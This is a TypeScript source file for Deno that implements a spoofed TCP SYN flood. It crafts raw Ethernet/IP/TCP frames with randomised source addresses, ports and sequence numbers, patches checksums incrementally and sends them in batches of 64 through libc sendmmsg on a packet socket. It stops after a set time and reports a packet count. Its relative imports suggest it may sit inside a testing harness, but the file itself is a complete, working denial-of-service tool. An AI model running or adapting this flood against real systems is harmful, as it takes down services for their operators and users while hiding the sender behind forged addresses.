/**
 * A flood of SYNs from sources that do not exist, each with another address, port
 * and sequence number, as fast as told. Argument: a `FloodTask` as JSON. Prints a
 * record when it begins and a `FloodReport` when the time is over.
 *
 * All through FFI, in one loop that blocks: nothing else happens in this process.
 */

import { encodePacket, type Packet } from "../../support/codec.ts";
import { randomWords } from "../../support/random.ts";
import { openSendingPacketSocket } from "./packet_socket.ts";

/** Whom to flood and how. */
export interface FloodTask {
  /** The device by which the SYNs leave. */
  readonly device: string;
  readonly sourceMac: string;
  readonly destinationMac: string;
  /** An address of the sources; its last 16 bits change. */
  readonly source: string;
  readonly destination: string;
  readonly port: number;
  /** SYNs a second; 0: as many as possible. */
  readonly perSecond: number;
  readonly seconds: number;
}

/** What was sent. */
export interface FloodReport {
  event: "flooded";
  sent: number;
  /** Calls that sent nothing: the device had no room. */
  refused: number;
  seconds: number;
}

/** SYNs in one system call. */
const BATCH = 64;
const ETHERNET_LENGTH = 14;
/** Where the last two bytes of the source address are in an IP header. */
const SOURCE_TAIL = { 4: 14, 6: 22 } as const;
const IP_LENGTH = { 4: 20, 6: 40 } as const;
const IPV4_CHECKSUM = 10;
const TCP_SEQ = 4;
const TCP_CHECKSUM = 16;
/** `struct iovec`, and `struct mmsghdr` with the places of its iovec and their number. */
const IOVEC_LENGTH = 16;
const MMSGHDR_LENGTH = 64;
const MSG_IOV = 16;
const MSG_IOVLEN = 24;

const libc = Deno.dlopen("libc.so.6", {
  sendmmsg: { parameters: ["i32", "buffer", "u32", "i32"], result: "i32" },
}).symbols;

/** What Linux sends by default. */
const SYN: Omit<Packet, "sourceMac" | "destinationMac" | "source" | "destination"> = {
  sourcePort: 0,
  destinationPort: 0,
  ttl: 64,
  trafficClass: 0,
  seq: 0,
  ack: 0,
  flags: "S",
  window: 64240,
  urgent: 0,
  options: [
    { name: "mss", value: 1460 },
    { name: "sackOK" },
    { name: "TS", val: 1, ecr: 0 },
    { name: "nop" },
    { name: "wscale", shift: 7 },
  ],
  payload: new Uint8Array(0),
};

/** As many SYNs as one call sends, each of which can be given other numbers quickly. */
class SynBatch {
  readonly messages: Uint8Array<ArrayBuffer> = new Uint8Array(BATCH * MMSGHDR_LENGTH);
  readonly #vectors = new Uint8Array(BATCH * IOVEC_LENGTH);
  readonly #view: DataView;
  readonly #frameLength: number;
  readonly #family: 4 | 6;
  /** Sums of the template's headers without what changes. */
  readonly #ipRest: number;
  readonly #tcpRest: number;
  readonly #random = randomWords(0x5eed);

  constructor(task: FloodTask) {
    const { sourceMac, destinationMac, source, destination, port } = task;
    const addresses = { sourceMac, destinationMac, source: withoutTail(source), destination };
    const template = encodePacket({ ...SYN, ...addresses, destinationPort: port });
    this.#family = source.includes(":") ? 6 : 4;
    this.#frameLength = template.length;
    const frames = new Uint8Array(BATCH * template.length);
    for (let i = 0; i < BATCH; i++) frames.set(template, i * template.length);
    this.#view = new DataView(frames.buffer);
    this.#ipRest = 0xffff - this.#view.getUint16(ETHERNET_LENGTH + IPV4_CHECKSUM);
    this.#tcpRest = 0xffff - this.#view.getUint16(this.#tcpOffset + TCP_CHECKSUM);
    this.#point(frames);
  }

  /** Gives all of them new numbers. */
  renew(): void {
    for (let i = 0; i < BATCH; i++) {
      this.#set(i * this.#frameLength, this.#random(), this.#random());
    }
  }

  get #tcpOffset(): number {
    return ETHERNET_LENGTH + IP_LENGTH[this.#family];
  }

  #set(start: number, source: number, seq: number): void {
    const view = this.#view;
    const tcp = start + this.#tcpOffset;
    const tail = source & 0xffff;
    const port = 1024 + (source >>> 16) % 60_000;
    view.setUint16(start + ETHERNET_LENGTH + SOURCE_TAIL[this.#family], tail);
    view.setUint16(tcp, port);
    view.setUint32(tcp + TCP_SEQ, seq);
    const tcpSum = this.#tcpRest + tail + port + (seq >>> 16) + (seq & 0xffff);
    view.setUint16(tcp + TCP_CHECKSUM, 0xffff - folded(tcpSum));
    if (this.#family === 6) return;
    view.setUint16(start + ETHERNET_LENGTH + IPV4_CHECKSUM, 0xffff - folded(this.#ipRest + tail));
  }

  /** Has each message point at its frame. */
  #point(frames: Uint8Array<ArrayBuffer>): void {
    const framesAt = addressOf(frames);
    const vectorsAt = addressOf(this.#vectors);
    const vectors = new DataView(this.#vectors.buffer);
    const messages = new DataView(this.messages.buffer);
    for (let i = 0; i < BATCH; i++) {
      const frameAt = framesAt + BigInt(i * this.#frameLength);
      vectors.setBigUint64(i * IOVEC_LENGTH, frameAt, true);
      vectors.setBigUint64(i * IOVEC_LENGTH + 8, BigInt(this.#frameLength), true);
      const message = i * MMSGHDR_LENGTH;
      messages.setBigUint64(message + MSG_IOV, vectorsAt + BigInt(i * IOVEC_LENGTH), true);
      messages.setBigUint64(message + MSG_IOVLEN, 1n, true);
    }
  }
}

function flood(descriptor: number, batch: SynBatch, task: FloodTask): FloodReport {
  const sleeper = new Int32Array(new SharedArrayBuffer(4));
  const beganAt = performance.now();
  let sent = 0;
  let refused = 0;
  for (;;) {
    const elapsedMs = performance.now() - beganAt;
    if (elapsedMs >= task.seconds * 1000) {
      return { event: "flooded", sent, refused, seconds: elapsedMs / 1000 };
    }
    const aheadMs = task.perSecond === 0 ? 0 : sent / task.perSecond * 1000 - elapsedMs;
    if (aheadMs > 0) {
      Atomics.wait(sleeper, 0, 0, aheadMs);
      continue;
    }
    batch.renew();
    const count = libc.sendmmsg(descriptor, batch.messages, BATCH, 0);
    if (count < 0) refused++;
    else sent += count;
  }
}

/** The address with 0 in the place of what changes. */
function withoutTail(address: string): string {
  return address.includes(":")
    ? address.replace(/[^:]*$/, "0")
    : address.replace(/\.\d+\.\d+$/, ".0.0");
}

function folded(sum: number): number {
  const once = (sum >>> 16) + (sum & 0xffff);
  return (once >>> 16) + (once & 0xffff);
}

function addressOf(bytes: Uint8Array<ArrayBuffer>): bigint {
  return Deno.UnsafePointer.value(Deno.UnsafePointer.of(bytes));
}

if (import.meta.main) {
  const task: FloodTask = JSON.parse(Deno.args[0]!);
  const descriptor = openSendingPacketSocket(task.device);
  const batch = new SynBatch(task);
  console.log(JSON.stringify({ event: "flooding" }));
  console.log(JSON.stringify(flood(descriptor, batch, task)));
  Deno.exit(0);
}
